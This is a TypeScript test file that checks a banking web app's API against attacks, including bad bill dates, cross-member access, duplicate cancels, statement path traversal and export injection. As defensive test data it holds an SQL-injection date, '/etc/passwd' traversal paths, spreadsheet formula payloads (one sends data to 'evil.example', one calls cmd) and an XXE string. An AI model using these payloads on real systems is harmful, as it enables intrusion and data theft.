import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readCsv } from '#bank/testing/read-csv.ts';
import { addPayment } from '#bank/testing/test-member.ts';
import {
  type AttackedBank,
  badRequest,
  newIntent,
  notFound,
  openAttackedBank,
} from './attacked-bank.ts';

let bank: AttackedBank;
let payee: string;

beforeAll(async () => {
  bank = await openAttackedBank();
  payee = await addPayeeOf(bank.member.membershipId, 'Electric Company');
});
afterAll(() => bank.close());

/** As staff would: the member's own way to add a payee asks for a step-up. */
async function addPayeeOf(membershipId: string, name: string): Promise<string> {
  const id = bank.host.bank.newId();
  await bank.store.db
    .insertInto('payee')
    .values({
      id,
      membership_id: membershipId,
      name,
      name_key: name.toLowerCase(),
      account_number: null,
      category: 'Utilities',
      removed_at: null,
      created_at: bank.host.clock.now(),
    })
    .execute();
  return id;
}

function billOf(date: unknown, change: object = {}) {
  return {
    intentKey: newIntent(),
    bill: { payee, from: 'checking', amount: 5_00, date, ...change },
  };
}

const schedule = (body: object) => bank.browser.post('/api/bills', body);

describe('The day of a bill', () => {
  test.each([
    '2026-02-30',
    '2027-02-29',
    '2026-04-31',
    '2026-13-01',
    '2026-3-5',
    '20260305',
    '2026-03-05T00:00:00Z',
    '+002026-03-05',
    '2026-03-05; drop table bill',
    '',
    null,
    0,
    1_772_000_000_000,
    ['2026-03-05'],
  ])('cannot be %j', async (date) => {
    expect(await bank.refusalOf(() => schedule(billOf(date)))).toMatchObject(badRequest);
  });

  test.each(['2026-03-01', '2025-12-31', '1970-01-01', '0001-01-01'])(
    'cannot be past: %s',
    async (date) => {
      expect(await bank.refusalOf(() => schedule(billOf(date)))).toMatchObject({
        code: 'DATE_PAST',
        status: 422,
        data: { earliest: '2026-03-02' },
      });
    },
  );

  test.each(['2027-03-03', '2999-12-31', '9999-12-31'])(
    'cannot be more than a year ahead: %s',
    async (date) => {
      expect(await bank.refusalOf(() => schedule(billOf(date)))).toMatchObject({
        code: 'DATE_TOO_FAR',
        status: 422,
      });
    },
  );
});

describe('A bill', () => {
  test('cannot be paid to a payee of another member, nor can that payee be touched', async () => {
    const { member } = await bank.another();
    const theirs = await addPayeeOf(member.membershipId, 'Gas Company');
    expect(
      await bank.refusalOf(() => schedule(billOf('2026-04-01', { payee: theirs }))),
    ).toMatchObject({
      code: 'UNKNOWN_PAYEE',
      status: 422,
    });
    for (const [action, body] of [
      ['rename', { name: 'Mallory' }],
      ['remove', {}],
      ['restore', {}],
    ] as const) {
      expect(
        await bank.refusalOf(() => bank.browser.post(`/api/payees/${theirs}/${action}`, body)),
      ).toMatchObject(notFound);
    }
  });

  test('cannot be repeated in a way that the bank does not know', async () => {
    for (const repeat of ['hourly', 'every-second', 1, null, ['weekly']]) {
      expect(await bank.refusalOf(() => schedule(billOf('2026-04-01', { repeat })))).toMatchObject(
        badRequest,
      );
    }
  });

  test('that was paid cannot be cancelled, and the money stays where it went', async () => {
    const paid = (await (await schedule(billOf('2026-03-02'))).json()) as { id: string };
    expect(
      await bank.refusalOf(() => bank.browser.post(`/api/bills/${paid.id}/cancel`, {})),
    ).toMatchObject({
      code: 'NOT_SCHEDULED',
      status: 409,
      data: { status: 'paid' },
    });
  });

  test('is cancelled once, however often and at once it is asked for', async () => {
    const { id } = (await (await schedule(billOf('2026-04-01'))).json()) as { id: string };
    const answers = await Promise.all(
      Array.from({ length: 10 }, () => bank.browser.post(`/api/bills/${id}/cancel`, {})),
    );
    const statuses = answers.map(({ status }) => status).toSorted((a, b) => a - b);
    expect(statuses).toEqual([200, ...Array.from({ length: 9 }, () => 409)]);
  });

  test('of another member cannot be cancelled, nor its series', async () => {
    const answer = await schedule(billOf('2026-04-02'));
    const { id, series } = (await answer.json()) as { id: string; series: string };
    const { browser } = await bank.another();
    for (const path of [`/api/bills/${id}/cancel`, `/api/bill-series/${series}/cancel`]) {
      expect(await bank.refusalOf(() => browser.post(path, {}))).toMatchObject(notFound);
    }
  });
});

test.each([-1, 0.5, 8.64e15 + 1, Number.MAX_SAFE_INTEGER, '2026-03-03', null])(
  'A visit to the safe deposit box cannot begin at %j, which is in no calendar',
  async (startsAt) => {
    const asked = { intentKey: newIntent(), startsAt };
    const visit = () => bank.browser.post('/api/safe-deposit/visits', asked);
    expect(await bank.refusalOf(visit)).toMatchObject(badRequest);
  },
);

describe('A statement', () => {
  test('of somebody else’s account is not there', async () => {
    const { member } = await bank.another({ accounts: { trip: 9_00 } });
    const key = member.accounts['trip']?.id ?? '';
    expect((await bank.browser.fetch('/api/statements/trip/2026-02')).status).toBe(404);
    expect((await bank.browser.fetch('/api/statements/trip/2026-02/pdf')).status).toBe(404);
    expect((await bank.browser.fetch(`/api/statements/${key}/2026-02`)).status).toBe(400);
  });

  test.each(['2026-03', '2026-04', '1969-12', '9999-12'])(
    'of a month that is not over or has none is not there: %s',
    async (month) => {
      for (const form of ['', '/pdf']) {
        const answer = await bank.browser.fetch(`/api/statements/checking/${month}${form}`);
        expect(answer.status).toBe(404);
      }
    },
  );

  test.each(['2026-00', '2026-13', '2026-2', '..%2F..', '2026-02%0A', '02026-02', '%2A'])(
    'of a month that cannot be is refused: %s',
    async (month) => {
      const answer = await bank.browser.fetch(`/api/statements/checking/${month}`);
      expect(answer.status).toBe(400);
    },
  );

  test('cannot be had in a language that is a path', async () => {
    const path = '/api/statements/checking/2026-02/pdf?language=..%2F..%2Fetc%2Fpasswd';
    expect((await bank.browser.fetch(path)).status).toBe(400);
  });
});

describe('An export', () => {
  const formulas = [
    '=HYPERLINK("https://evil.example?"&A1)',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '"=1+1',
  ];
  const xml = '</NAME><STMTTRN><TRNAMT>1000000</TRNAMT>]]><!ENTITY x SYSTEM "file:///etc/passwd">';

  beforeAll(async () => {
    const { host, member } = bank;
    const at = host.clock.now();
    for (const description of [...formulas, xml]) {
      await addPayment(host.bank, member, { type: 'debit', amount: 1, at, description });
    }
  });

  async function exported(form: string, query = 'range=all'): Promise<string> {
    const answer = await bank.browser.fetch(`/api/transactions/${form}?${query}`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toMatch(/^(text\/csv|application\/(x-ofx|xml))/);
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; /);
    // Reading it as text takes the mark at its beginning away.
    return await answer.text();
  }

  test('holds no cell that a spreadsheet would run', async () => {
    const cells = readCsv(await exported('csv')).flat();
    for (const formula of formulas) expect(cells).toContain(`'${formula}`);
    for (const cell of cells) expect(cell).not.toMatch(/^[\s"]*[=+@\t\r]/);
  });

  test.each(['ofx', 'camt053'])(
    'as %s holds no markup that a description brought',
    async (form) => {
      const text = await exported(form);
      expect(text).not.toContain('<TRNAMT>1000000');
      expect(text).not.toContain('<!ENTITY');
      expect(text).not.toContain(']]>');
    },
  );

  test('of a hundred years and more is answered, of years that cannot be it is refused', async () => {
    await exported('csv', 'from=1900-01-01&to=2026-12-31');
    await exported('csv', 'from=1900-01-01&to=2999-12-31');
    for (const query of [
      'from=1899-12-31',
      'to=3000-01-01',
      'from=-000001-01-01',
      'to=99999-01-01',
    ]) {
      const answer = await bank.browser.fetch(`/api/transactions/csv?${query}`);
      expect(answer.status, query).toBe(400);
    }
  });

  test('of a range that runs backwards is refused', async () => {
    const answer = await bank.browser.fetch('/api/transactions/csv?from=2026-03-02&to=2026-03-01');
    expect(answer.status).toBe(422);
    expect(await answer.json()).toMatchObject({ code: 'RANGE_BACKWARDS' });
  });

  test('holds nothing of another member, whatever account is asked for', async () => {
    const { browser } = await bank.another({ accounts: { checking: 9_00 } });
    for (const form of ['csv', 'ofx', 'camt053']) {
      for (const query of [
        'range=all',
        'range=all&account=checking',
        'range=all&account=savings',
      ]) {
        const answer = await browser.fetch(`/api/transactions/${form}?${query}`);
        expect(await answer.text()).not.toContain('HYPERLINK');
      }
    }
  });
});
